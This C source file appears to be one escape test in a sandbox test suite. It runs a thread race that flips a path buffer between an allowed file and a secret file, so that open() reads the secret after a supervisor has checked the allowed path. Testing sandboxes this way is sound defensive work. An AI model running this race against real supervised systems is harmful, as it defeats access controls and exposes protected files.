/* e0101-toctou-open - argument TOCTOU on open(), by a thread.
 *
 * Attack: one thread flips a path buffer between an allowed file and the
 * secret while another thread opens and reads whatever the buffer names.
 * A supervisor that checks the path in the program's memory and then lets
 * the kernel read that memory again is beaten as soon as a flip lands
 * between the two reads.
 * Source: Watson 2007, "Exploiting Concurrency Vulnerabilities in System
 * Call Wrappers"; Garfinkel 2003, "Traps and Pitfalls", race conditions.
 * Usage: e0101-toctou-open ALLOWED SECRET */
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>

#include "escape.h"

static char path[PATH_MAX];
static const char *allowed, *secret;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(allowed) + 1, ls = strlen(secret) + 1;
	while (!stop) {
		memcpy(path, secret, ls);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);	/* keep both stores */
		memcpy(path, allowed, la);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0101-toctou-open ALLOWED SECRET");
	allowed = argv[1];
	secret = argv[2];
	char expect[512];
	if (esc_read_file(allowed, expect, sizeof expect) < 0)
		esc_die(allowed);
	strcpy(path, allowed);
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	esc_race_open("open of the flipping path", path, expect);
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
